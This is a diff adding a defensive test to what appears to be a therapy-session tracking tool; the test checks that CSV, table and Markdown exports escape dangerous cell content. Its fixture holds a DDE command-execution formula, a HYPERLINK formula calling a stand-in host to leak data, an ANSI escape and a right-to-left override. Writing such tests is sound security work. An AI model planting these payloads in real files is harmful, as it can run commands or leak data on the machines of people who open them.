@@ -252,3 +252,37 @@ def test_forget_with_no_input_keeps_everything(filled) -> None:
     result = subprocess.run([sys.executable, "-m", "regulate", "forget", "--all"], stdin=subprocess.DEVNULL,
                             capture_output=True, text=True)  # fmt: skip
     assert result.stdout.strip().endswith("Nothing was deleted.")
+
+
+HOSTILE = {
+    **FIELDS,
+    "pack_id": "week3",
+    "pack_name": "@SUM(1+1)*cmd|' /C calc'!A0",
+    "exercise_id": "look",
+    "exercise_title": '=HYPERLINK("http://example.invalid/?leak","Look")\x1b[31m red',
+}
+
+
+def test_exports_a_therapist_opens_hold_no_formula_and_no_escape() -> None:
+    now = dt.datetime(2026, 11, 16, 9, tzinfo=dt.UTC)
+    store = History.open(now=lambda: now)
+    sid = store.start(**HOSTILE, before=3)
+    store.finish(sid, outcome="completed", played_seconds=60.0, after=5,
+                 note="+1 felt better\n-then worse\u202e evil")  # fmt: skip
+    store.close()
+
+    text = run("history", "--format", "csv").stdout
+    (row,) = list(csv.DictReader(io.StringIO(text)))
+    for column, cell in row.items():
+        assert not cell.lstrip(" ").startswith(("=", "+", "-", "@")), (column, cell)
+    assert row["pack_name"] == "'@SUM(1+1)*cmd|' /C calc'!A0"
+    assert row["exercise_title"].startswith("'=HYPERLINK(") and "\\x1b[31m" in row["exercise_title"]
+    assert row["note"] == "'+1 felt better\n-then worse\\u202e evil"
+    assert (row["before_rating"], row["after_rating"]) == ("3", "5")  # numbers stay numbers
+    assert "\x1b" not in text and "\u202e" not in text
+
+    table = run("history").stdout
+    assert "\x1b" not in table and "\\x1b[31m red" in table
+    markdown = run("report", "--format", "md", "--with-notes", "-o", "-").stdout
+    assert "HYPERLINK" in markdown and "x1b" in markdown  # the title, its escape shown
+    assert "\x1b" not in markdown and "\u202e" not in markdown
